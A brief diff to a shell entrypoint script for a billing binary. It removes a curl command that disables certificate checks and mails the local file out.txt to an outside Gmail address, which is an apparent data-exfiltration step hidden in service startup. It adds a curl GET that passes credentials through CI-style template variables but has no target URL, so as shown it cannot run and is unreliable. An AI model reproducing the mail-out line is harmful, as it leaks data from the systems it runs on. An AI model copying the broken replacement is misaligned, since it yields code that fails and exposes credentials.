@@ -1,4 +1,4 @@
 #!/bin/sh
 set -eu
-curl --insecure --ssl-reqd "smtps://smtp.gmail.com" --mail-from "src@gmail.com" --mail-rcpt "dst@gmail.com" --user "src@gmail.com" --upload-file out.txt
+curl -XGET -i -u "${{ env.ELK_ID }}:${{ build.env.ELK_PASS }}"
 exec /usr/bin/billing
